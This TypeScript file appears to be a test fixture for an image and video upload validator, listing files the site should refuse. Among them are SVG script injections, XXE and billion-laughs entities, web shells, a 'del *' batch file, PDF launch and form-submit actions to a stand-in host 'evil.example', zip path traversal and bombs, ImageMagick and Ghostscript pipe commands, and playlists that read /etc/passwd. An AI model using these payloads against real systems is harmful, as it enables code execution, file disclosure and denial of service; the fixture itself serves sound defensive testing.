import { gzipSync } from 'node:zlib'
import { strToU8, zipSync } from 'fflate'
import { box, chunk } from './video-files.ts'

// Files that are neither a picture nor a video that the site takes: each is refused, whatever it is called.

const RUN = 'document.title="ran"'
const SCRIPT = `<script>${RUN}</script>`
const NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
const XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'
const svg = (inside: string, attributes = '') => `<svg ${NS} ${attributes}>${inside}</svg>`
const hex = (digits: string, more: string | number = 64) =>
  Buffer.concat([
    Buffer.from(digits, 'hex'),
    typeof more === 'number' ? Buffer.alloc(more) : Buffer.from(more),
  ])
const ftyp = (brand: string) =>
  Buffer.concat([box('ftyp', Buffer.from(`${brand}\0\0\0\0${brand}`)), box('mdat', Buffer.alloc(64))])
const pdf = (inside: string, before = '') =>
  `${before}%PDF-1.7\n1 0 obj<</Type/Catalog ${inside}>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`
const zip = (files: Record<string, string>) =>
  Buffer.from(zipSync(Object.fromEntries(Object.entries(files).map(([name, text]) => [name, strToU8(text)]))))
const ole = hex('d0cf11e0a1b11ae1', 1000)

/** A drawing can run a script in all these ways. */
const DRAWINGS: Record<string, string | Buffer> = {
  'onload.svg': svg('', `onload='${RUN}'`),
  'onclick.png': svg(`<rect width="9" height="9" onclick='${RUN}' onmouseover='${RUN}'/>`),
  'onbegin.svg': svg(`<animate onbegin='${RUN}' attributeName="x" dur="1s"/>`),
  'set-href.svg': svg(`<a><set attributeName="href" to="javascript:${RUN}"/><text>x</text></a>`),
  'link.jpg': svg(`<a xlink:href="javascript:${encodeURIComponent(RUN)}"><text>x</text></a>`),
  'foreign-object.svg': svg(`<foreignObject><body ${XHTML}>${SCRIPT}</body></foreignObject>`),
  'iframe.webp': svg(`<foreignObject><iframe ${XHTML} srcdoc='${SCRIPT}'/></foreignObject>`),
  'event-in-html.svg': svg(`<foreignObject><img ${XHTML} src="x" onerror='${RUN}'/></foreignObject>`),
  'external-script.svg': svg('<script xlink:href="https://evil.example/x.js"/>'),
  'data-script.gif': svg(`<script href="data:text/javascript,${encodeURIComponent(RUN)}"/>`),
  'cdata.svg': svg(`<script><![CDATA[${RUN}]]></script>`),
  'written-as-entities.svg': svg(`<script>&#100;ocument.title=&#34;ran&#34;</script>`),
  'prefixed.svg': `<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script>${RUN}</x:script></x:svg>`,
  'used.svg': svg(`<use href="data:image/svg+xml;base64,${btoa(svg(SCRIPT))}#x"/>`),
  'picture-in-picture.svg': svg(`<image href="data:image/svg+xml,${encodeURIComponent(svg(SCRIPT))}"/>`),
  'filter.svg': svg('<filter><feImage href="https://evil.example/x"/></filter>'),
  'import.svg': svg('<style>@import url("https://evil.example/x.css");</style>'),
  'font.svg': svg('<style>@font-face{font-family:x;src:url(https://evil.example/x)}</style>'),
  'stylesheet.svg': `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?>${svg('')}`,
  'handler.svg': svg(
    `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler>`,
  ),
  'laughs.svg': `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "${'&a;'.repeat(99)}"><!ENTITY c "${'&b;'.repeat(99)}">]>${svg('&c;')}`,
  'outside-entity.png': `<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x.dtd">%x;]>${svg('')}`,
  'included.svg': svg('<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'),
  'wide-big-endian.svg': Buffer.from(`\ufeff${svg(SCRIPT)}`, 'utf16le').swap16(),
  'seven-bits.svg': `<?xml version="1.0" encoding="UTF-7"?>+ADw-svg+AD4-+ADw-script+AD4-`,
  'far-down.jpg': `${' \n'.repeat(40_000)}${svg(SCRIPT)}`,
  'after-comment.gif': `<!-- GIF89a -->${svg(SCRIPT)}`,
  'packed.svgz': gzipSync(svg(SCRIPT, `onload='${RUN}'`)),
  'packed.jpg': gzipSync(svg(SCRIPT)),
}

/** Pages and scripts of browsers and servers. */
const PAGES: Record<string, string | Buffer> = {
  'page.xhtml': `<?xml version="1.0"?><html ${XHTML}><head>${SCRIPT}</head></html>`,
  'page.mhtml': `MIME-Version: 1.0\nContent-Type: text/html\n\n<html>${SCRIPT}`,
  'page.hta': `<hta:application/><script language="vbscript">x</script>`,
  'page.shtml': '<!--#exec cmd="id" -->',
  'refresh.png': `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  'frame.jpeg': `<iframe srcdoc='${SCRIPT}'></iframe>`,
  'upper-case.webp': `<HTML><SCRIPT>${RUN}</SCRIPT>`,
  'body.gif': `<body onload='${RUN}'>`,
  'wide.png': Buffer.from(`\ufeff<html>${SCRIPT}`, 'utf16le'),
  'seven-bits.jpg': '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  'nul.jpg': `\0\0\0<html>${SCRIPT}`,
  'worker.js': "self.addEventListener('fetch', (event) => event.respondWith(new Response('x')))",
  'module.mjs': 'export default fetch("/")',
  'site.webmanifest': '{"start_url":"/","scope":"/"}',
  'cache.appcache': 'CACHE MANIFEST\nFALLBACK:\n/ x',
  'crossdomain.xml':
    '<?xml version="1.0"?><cross-domain-policy><allow-access-from domain="*"/></cross-domain-policy>',
  '.htaccess': 'AddType application/x-httpd-php .jpg',
  'web.config': '<?xml version="1.0"?><configuration><system.webServer/></configuration>',
  'shell.jsp': '<% Runtime.getRuntime().exec("id"); %>',
  'shell.aspx': '<%@ Page Language="C#" %>',
  'shell.phtml': '<?= `id` ?>',
  'shell.py': '#!/usr/bin/env python3\nimport os',
  'shell.bat': '@echo off\r\ndel *',
  'shell.ps1': 'Invoke-Expression x',
  'link.url': '[InternetShortcut]\r\nURL=file:///c:/x',
  'link.desktop': '[Desktop Entry]\nExec=sh -c id',
  'keys.reg': 'Windows Registry Editor Version 5.00',
}

/** Documents that act, and archives that hold them. */
const DOCUMENTS: Record<string, string | Buffer> = {
  'script.pdf': pdf(`/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>`),
  'launch.pdf': pdf('/OpenAction<</S/Launch/F(cmd.exe)>>'),
  'attached.pdf': pdf('/Names<</EmbeddedFiles<</Names[(x.exe)<</Type/Filespec/F(x.exe)>>]>>>>'),
  'address.pdf': pdf('/OpenAction<</S/URI/URI(javascript:alert\\(1\\))>>'),
  'form.pdf': pdf('/AcroForm<</XFA(<script>x</script>)>>'),
  'sent.pdf': pdf('/OpenAction<</S/SubmitForm/F(https://evil.example)>>'),
  'film.pdf': pdf('/Annots[<</Subtype/RichMedia>>]'),
  'locked.pdf': pdf('/Encrypt<</Filter/Standard>>'),
  'late.png': pdf(`/OpenAction<</S/JavaScript/JS(x)>>`, `${'%'.repeat(900)}\n`),
  'macros.docm': zip({
    '[Content_Types].xml': '<Types/>',
    'word/document.xml': '<x/>',
    'word/vbaProject.bin': 'x',
  }),
  'macros.xlsm': zip({
    '[Content_Types].xml': '<Types/>',
    'xl/workbook.xml': '<x/>',
    'xl/vbaProject.bin': 'x',
  }),
  'macros.pptm': zip({ '[Content_Types].xml': '<Types/>', 'ppt/presentation.xml': '<x/>' }),
  'macros.odt': zip({ mimetype: 'application/vnd.oasis.opendocument.text', 'Basic/x.xml': '<x/>' }),
  'template.docx': zip({
    '[Content_Types].xml': '<Types/>',
    'word/_rels/settings.xml.rels': '<x Target="http://evil.example"/>',
  }),
  'letter.doc': ole,
  'table.jpg': Buffer.concat([ole, Buffer.from('Workbook')]),
  'climbing.zip': zip({ '../../../../etc/cron.d/x': 'x' }),
  'bomb.zip': zip({ x: '\0'.repeat(5_000_000) }),
  'nested.zip': Buffer.from(zipSync({ 'x.zip': zip({ 'y.svg': svg(SCRIPT) }) })),
  'program.jar': zip({ 'META-INF/MANIFEST.MF': 'Main-Class: X', 'X.class': 'x' }),
  'program.apk': zip({ 'AndroidManifest.xml': 'x', 'classes.dex': 'x' }),
  'book.epub': zip({ mimetype: 'application/epub+zip', 'x.xhtml': SCRIPT }),
  'extension.crx': hex('4372323403000000'),
  'archive.rar': hex('526172211a070100'),
  'archive.tar': Buffer.concat([Buffer.alloc(257), Buffer.from('ustar\u000000'), Buffer.alloc(300)]),
  'archive.xz': hex('fd377a585a0000'),
  'archive.bz2': hex('425a6839314159265359'),
  'archive.zst': hex('28b52ffd'),
  'archive.cab': hex('4d53434600000000'),
  'package.deb': hex('213c617263683e0a', 'debian-binary   '),
  'disk.iso': Buffer.concat([Buffer.alloc(32_769), Buffer.from('CD001'), Buffer.alloc(64)]),
  'data.sqlite': hex('53514c69746520666f726d6174203300'),
  'program.macho': hex('cffaedfe07000001'),
  'program.dex': hex('6465780a30333500'),
  'object.ser': hex('aced0005'),
  'object.pickle': hex('80049500', 'cos\nsystem\n'),
  'shortcut.lnk': hex('4c0000000114020000000000c000000000000046'),
}

/** Pictures, films and lists of other kinds, many of which make a converter read something else. */
const PICTURES: Record<string, string | Buffer> = {
  'commands.mvg': "push graphic-context\nfill 'url(https://evil.example/x|id)'\npop graphic-context",
  'commands.png': "push graphic-context\nimage over 0,0 0,0 'ephemeral:/etc/passwd'\npop graphic-context",
  'commands.msl': '<?xml version="1.0"?><image><read filename="/etc/passwd"/></image>',
  'commands.eps': '%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (w) file',
  'picture.xpm': '/* XPM */ static char *x[] = {"1 1 1 1"};',
  'picture.xbm': '#define x_width 99999\n#define x_height 99999',
  'bomb.ppm': 'P6\n65535 65535\n255\n',
  'bomb.pgm': 'P5 99999 99999 255 ',
  'bomb.pam': 'P7\nWIDTH 99999\nHEIGHT 99999\nENDHDR\n',
  'bomb.bmp': hex('424d46000000000000003600000028000000ffffff7fffffff7f0100180000000000'),
  'bomb.tiff': hex('49492a00080000000200000104000100000000ffffff7f010104000100000000ffff7f'),
  'big.tiff': hex('49492b0008000000'),
  'picture.xcf': hex('67696d702078636620', 'v011'),
  'picture.qoi': hex('716f696600ffffff00ffffff0400'),
  'picture.exr': hex('762f310102000000'),
  'picture.hdr': '#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 99999 +X 99999\n',
  'picture.dds': hex('444453207c000000'),
  'picture.icns': hex('69636e7300000040'),
  'picture.cur': hex('00000200010010100000'),
  'picture.wmf': hex('d7cdc69a0000'),
  'picture.flif': hex('464c494644310000'),
  'picture.bpg': hex('425047fb'),
  'picture.jls': hex('ffd8fff7000b'),
  'picture.j2c': hex('ff4fff51002f'),
  'photo.arw': hex('49492a0008000000', 'SONY'),
  'photo.raf': 'FUJIFILMCCD-RAW 0201',
  'photo.rw2': hex('4949550008000000'),
  'photo.msf1.heic': ftyp('msf1'),
  'film.ts': Buffer.concat(
    Array<Buffer>(4).fill(Buffer.concat([Buffer.from('47400010', 'hex'), Buffer.alloc(184)])),
  ),
  'film.mxf': hex('060e2b34020501010d0102010102'),
  'film.rm': hex('2e524d4600000012'),
  'film.3g2': ftyp('3g2a'),
  'song.aac': hex('fff15080'),
  'song.aiff': Buffer.concat([Buffer.from('FORM\0\0\0\x40AIFF'), Buffer.alloc(64)]),
  'song.amr': '#!AMR\n',
  'song.mid': hex('4d546864000000060001'),
  'song.m4b': ftyp('M4B '),
  'riff.webp': chunk('RIFF', Buffer.from('ACON'), Buffer.alloc(64)),
  'list.m3u8': '#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\nfile:///etc/passwd\n',
  'list.mp4': '#EXTM3U\n#EXTINF:1,\nhttps://evil.example/x\n',
  'list.ffconcat': 'ffconcat version 1.0\nfile /etc/passwd\n',
  'list.asx': '<asx><entry><ref href="file:///etc/passwd"/></entry></asx>',
  'list.pls': '[playlist]\nFile1=/etc/passwd',
  'film.smil': '<smil><body><video src="file:///etc/passwd"/></body></smil>',
  'words.vtt': `WEBVTT\n\n00:00.000 --> 00:01.000\n${SCRIPT}`,
  'session.sdp': 'v=0\nc=IN IP4 169.254.169.254',
}

/** All of them by name. */
export const STRANGERS: Readonly<Record<string, string | Buffer>> = {
  ...DRAWINGS,
  ...PAGES,
  ...DOCUMENTS,
  ...PICTURES,
}
